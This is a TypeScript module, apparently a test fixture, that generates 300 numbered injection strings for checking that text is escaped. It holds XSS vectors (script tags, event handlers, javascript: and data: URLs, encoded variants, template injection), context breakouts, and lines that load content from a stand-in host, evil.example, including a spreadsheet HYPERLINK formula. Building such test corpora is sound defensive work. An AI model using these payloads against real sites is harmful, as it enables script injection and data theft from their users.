/** Three hundred strings that would run, fetch or break out if any place took them for more than words. Each has its number. */

const run = 'alert(NN)'
const vectors = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="https://evil.example/NN"></object>`,
  `<embed src="https://evil.example/NN">`,
  `<link rel=stylesheet href="https://evil.example/NN.css">`,
  `<style>@import "https://evil.example/NN.css";</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/NN">`,
  `<base href="https://evil.example/NN/">`,
  `<form action="https://evil.example/NN"><button autofocus>NN</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<a href="javascript:${run}">NN</a>`,
  `<a href="data:text/html,<script>${run}</script>">NN</a>`,
  `<template><script>${run}</script></template>`,
  `<noscript><img src=x onerror=${run}></noscript>`,
  `<div style="background:url(https://evil.example/NN)">`,
  `<div id=app name=root>NN`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}} NN`,
  `\${${run}} NN`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `[NN](javascript:${run})`,
  `![NN](https://evil.example/NN.png)`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<!--><script>${run}</script>-->`,
  `<?xml version="1.0"?><x>NN</x>`,
  `=HYPERLINK("https://evil.example/NN")`,
]
const breakouts = [
  '',
  '">',
  "'>",
  '</script>',
  '</textarea></title></style>',
  '" onmouseover="alert(NN)" x="',
  '--><b>',
  ']]>',
]

export const hostile: readonly string[] = breakouts
  .flatMap(out => vectors.map(vector => out + vector))
  .slice(0, 300)
  .map((text, i) => text.replaceAll('NN', String(1000 + i)))
